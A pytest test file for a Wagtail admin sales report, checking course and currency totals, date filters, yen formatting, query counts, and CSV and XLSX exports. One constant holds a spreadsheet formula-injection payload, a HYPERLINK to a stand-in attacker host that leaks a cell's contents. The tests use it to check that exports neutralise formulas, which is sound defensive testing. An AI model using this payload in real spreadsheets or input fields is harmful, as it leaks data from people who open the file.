"""The sales report in the Wagtail admin: per course and currency, paid orders, gross, refunded and net
for a period, in one query however many orders there are."""

import csv
import datetime
import html
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.tests.factories import UserFactory
from courses.services import REVIEWERS, authoring_roles_setup
from courses.tests.factories import CoursePageFactory
from payments.models import Order, OrderStatus
from payments.tests.factories import OrderFactory

SALES = reverse("payments_sales")
FORMULA_TITLE = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open the course")'


@pytest.fixture
def drainage(catalogue):
    authoring_roles_setup(catalogue=catalogue)
    return CoursePageFactory(parent=catalogue, title="Manual Lymphatic Drainage after Surgery", price_amount=4900)


@pytest.fixture
def shoulder(catalogue):
    return CoursePageFactory(parent=catalogue, title="Myofascial Release for the Shoulder", price_amount=12900)


@pytest.fixture
def reviewer(drainage, client):
    user = UserFactory(email="reviewer@example.com", groups=[REVIEWERS])
    client.force_login(user)
    return user


def sold(course, *, paid=None, currency="USD", refunded=0, status=OrderStatus.PAID, paid_at=None) -> Order:
    """An order Stripe reported paid at `paid_at` (now by default), with what it has refunded on it since."""
    paid_at = paid_at or timezone.now()
    return OrderFactory(
        course=course,
        currency=currency,
        status=status,
        amount_paid=course.price_amount if paid is None else paid,
        amount_refunded=refunded,
        paid_at=paid_at,
        created_at=paid_at,
    )


def report_rows(client, **params) -> list[list[str]]:
    """The report's tables as a person reads them: each row's cells, the course table's then the totals'."""
    response = client.get(SALES, params)
    assert response.status_code == 200
    page = response.content.decode()
    rows = []
    for body in re.findall(r"<tbody>(.*?)</tbody>", page.split('id="listing-results"', 1)[1], flags=re.S):
        for row in re.findall(r"<tr[^>]*>(.*?)</tr>", body, flags=re.S):
            cells = re.findall(r"<td[^>]*>(.*?)</td>", row, flags=re.S)
            rows.append([html.unescape(re.sub(r"<[^>]+>|\s+", " ", cell)).strip() for cell in cells])
    return rows


def test_each_course_has_its_paid_orders_gross_refunded_and_net_per_currency(client, reviewer, drainage, shoulder):
    sold(drainage)
    sold(drainage, refunded=4900, status=OrderStatus.REFUNDED)
    sold(drainage, refunded=1000, status=OrderStatus.PARTIALLY_REFUNDED)
    sold(drainage, paid=6500, currency="CAD")
    sold(shoulder, paid=12000)  # a promotion code took $9.00 off
    OrderFactory(course=shoulder)  # awaiting payment: not a sale
    OrderFactory(course=shoulder, status=OrderStatus.FAILED, failure_reason="The checkout expired.")

    rows = report_rows(client)

    assert rows == [
        ["Manual Lymphatic Drainage after Surgery", "CAD", "1", "CA$65.00", "CA$0.00", "CA$65.00"],
        ["Manual Lymphatic Drainage after Surgery", "USD", "3", "$147.00", "$59.00", "$88.00"],
        ["Myofascial Release for the Shoulder", "USD", "1", "$120.00", "$0.00", "$120.00"],
        # Totals by currency: dollars of two countries are never added together.
        ["CAD", "1", "CA$65.00", "CA$0.00", "CA$65.00"],
        ["USD", "4", "$267.00", "$59.00", "$208.00"],
    ]


def test_the_period_counts_orders_paid_in_it(client, reviewer, drainage, shoulder):
    today = timezone.localdate()
    sold(drainage, paid_at=timezone.now() - datetime.timedelta(days=45))
    sold(drainage, paid_at=timezone.now() - datetime.timedelta(days=3))
    sold(shoulder, paid_at=timezone.now() - datetime.timedelta(days=3))

    last_week = report_rows(client, paid_at_from=(today - datetime.timedelta(days=7)).isoformat())
    before = report_rows(client, paid_at_to=(today - datetime.timedelta(days=30)).isoformat())
    nothing = client.get(SALES, {"paid_at_to": (today - datetime.timedelta(days=60)).isoformat()})

    assert [row[:3] for row in last_week[:2]] == [
        ["Manual Lymphatic Drainage after Surgery", "USD", "1"],
        ["Myofascial Release for the Shoulder", "USD", "1"],
    ]
    assert last_week[2] == ["USD", "2", "$178.00", "$0.00", "$178.00"]
    assert before == [
        ["Manual Lymphatic Drainage after Surgery", "USD", "1", "$49.00", "$0.00", "$49.00"],
        ["USD", "1", "$49.00", "$0.00", "$49.00"],
    ]
    assert "No order was paid in this period." in nothing.content.decode()


def test_one_currency_can_be_shown_alone(client, reviewer, drainage):
    sold(drainage)
    sold(drainage, paid=6500, currency="CAD")

    rows = report_rows(client, currency="CAD")

    assert rows == [
        ["Manual Lymphatic Drainage after Surgery", "CAD", "1", "CA$65.00", "CA$0.00", "CA$65.00"],
        ["CAD", "1", "CA$65.00", "CA$0.00", "CA$65.00"],
    ]


def test_the_csv_export_has_the_lines_then_the_totals_with_amounts_as_numbers(client, reviewer, drainage, catalogue):
    formula = CoursePageFactory(parent=catalogue, title=FORMULA_TITLE, price_amount=2500)
    sold(drainage, refunded=900, status=OrderStatus.PARTIALLY_REFUNDED)
    sold(formula)

    response = client.get(SALES, {"export": "csv"})

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert 'filename="sales.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows == [
        ["Course", "Currency", "Paid orders", "Gross paid", "Refunded", "Net"],
        [f"'{FORMULA_TITLE}", "USD", "1", "25.00", "0.00", "25.00"],
        ["Manual Lymphatic Drainage after Surgery", "USD", "1", "49.00", "9.00", "40.00"],
        ["All courses", "USD", "2", "74.00", "9.00", "65.00"],
    ]


def test_the_xlsx_export_keeps_a_formula_title_as_text_and_amounts_as_numbers(client, reviewer, catalogue):
    sold(CoursePageFactory(parent=catalogue, title=FORMULA_TITLE, price_amount=2500))

    response = client.get(SALES, {"export": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    title, gross = sheet.cell(row=2, column=1), sheet.cell(row=2, column=4)
    assert (title.value, title.data_type) == (FORMULA_TITLE, "s")
    assert (Decimal(str(gross.value)), gross.data_type) == (Decimal("25"), "n")


def test_a_yen_course_is_reported_in_whole_yen(client, reviewer, catalogue):
    sold(CoursePageFactory(parent=catalogue, title="Shiatsu Foundations", price_amount=8000), currency="JPY")

    rows = report_rows(client)
    exported = list(csv.reader(io.StringIO(b"".join(client.get(SALES, {"export": "csv"}).streaming_content).decode())))

    assert rows[0] == ["Shiatsu Foundations", "JPY", "1", "8,000 JPY", "0 JPY", "8,000 JPY"]
    assert exported[1] == ["Shiatsu Foundations", "JPY", "1", "8000", "0", "8000"]


# The admin's frame (session, user, two-factor check, permissions, profile, locales, the menu's page and
# collection permissions) and the report's own: the currency filter's choices and the one grouped query.
REPORT_QUERIES = 13
# The export's frame (session, user, two-factor check, permissions, profile) and the one grouped query.
EXPORT_QUERIES = 7


@pytest.mark.parametrize("count", [3, 30])
def test_the_report_costs_the_same_queries_for_3_and_30_orders(
    client, reviewer, drainage, shoulder, count, django_assert_max_num_queries
):
    for number in range(count):
        sold(drainage if number % 2 else shoulder, currency="CAD" if number % 3 == 0 else "USD")
    client.get(SALES)  # the first admin request of a session caches what later ones reuse

    with django_assert_max_num_queries(REPORT_QUERIES):
        response = client.get(SALES)
    with django_assert_max_num_queries(EXPORT_QUERIES):
        export = client.get(SALES, {"export": "csv"})

    assert response.status_code == 200
    lines = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert sum(int(line[2]) for line in lines[1:] if line[0] == "All courses") == count
